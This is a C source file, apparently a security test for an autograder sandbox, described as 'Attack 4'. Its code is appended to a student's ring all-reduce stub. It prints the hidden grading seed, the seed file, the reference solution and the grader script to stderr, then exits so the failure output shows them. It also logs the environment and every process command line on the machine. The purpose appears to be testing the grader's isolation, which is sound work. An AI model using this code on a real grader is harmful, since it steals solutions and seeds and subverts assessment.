
/* Attack 4 (appended to the stub, run by its ring_all_reduce: replay.sh): print what is
 * secret to stderr, then exit with an error, hoping the failed test's "output (last lines)"
 * shows it: the hidden seed from the command line, the seed file, the lab's solution and,
 * last, run_autograder (which the sandbox user may read), so that without the filter of
 * the grader's own lines its end would be shown. What the process could see of its own
 * environment and of every command line on the machine also goes to
 * /tmp/pl-attack-leak.txt, which the replay reads: the seed must be in none of them (and its
 * cgroup, /proc/self/cgroup, must be the job's own where the machine lets the grader make
 * one). */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

extern char **environ;

static void attack_print(const char *path)
{
    FILE *f = fopen(path, "r");
    char line[512];
    if (!f) {
        fprintf(stderr, "cannot read %s\n", path);
        return;
    }
    while (fgets(line, sizeof line, f)) fprintf(stderr, "%s", line);
    fclose(f);
}

static void attack_run(void)
{
    const char *root = getenv("PL_AUTOGRADER") ? getenv("PL_AUTOGRADER") : "/autograder";
    char path[4096], args[4096];
    FILE *c = fopen("/proc/self/cmdline", "r");
    size_t n = c ? fread(args, 1, sizeof args - 1, c) : 0;
    if (c) fclose(c);
    for (size_t i = 0; i < n; i += strlen(args + i) + 1)
        if (!strcmp(args + i, "--seed") && i + 7 < n) fprintf(stderr, "seed %s\n", args + i + 7);
    FILE *seen = fopen("/tmp/pl-attack-leak.txt", "a");
    if (seen) {
        for (char **e = environ; *e; e++) fprintf(seen, "%s\n", *e);
        FILE *g = fopen("/proc/self/cgroup", "r");
        size_t m = g ? fread(args, 1, sizeof args, g) : 0;
        if (g) fclose(g);
        fwrite(args, 1, m, seen);
        DIR *d = opendir("/proc");
        struct dirent *p;
        while (d && (p = readdir(d))) {
            snprintf(path, sizeof path, "/proc/%s/cmdline", p->d_name);
            FILE *f = fopen(path, "r");
            size_t m = f ? fread(args, 1, sizeof args, f) : 0;
            if (f) fclose(f);
            for (size_t i = 0; i < m; i++) fputc(args[i] ? args[i] : ' ', seen);
            if (m) fputc('\n', seen);
        }
        if (d) closedir(d);
        fclose(seen);
    }
    snprintf(path, sizeof path, "%s/source/seed", root);
    attack_print(path);
    snprintf(path, sizeof path, "%s/source/run_autograder", root);
    attack_print(path);
    snprintf(path, sizeof path, "%s/source/solutions/01-collectives/collectives.c", root);
    attack_print(path);
    snprintf(path, sizeof path, "%s/run_autograder", root); /* readable: its end is shown last */
    attack_print(path);
    exit(3); /* a failed test shows the last lines of its output */
}
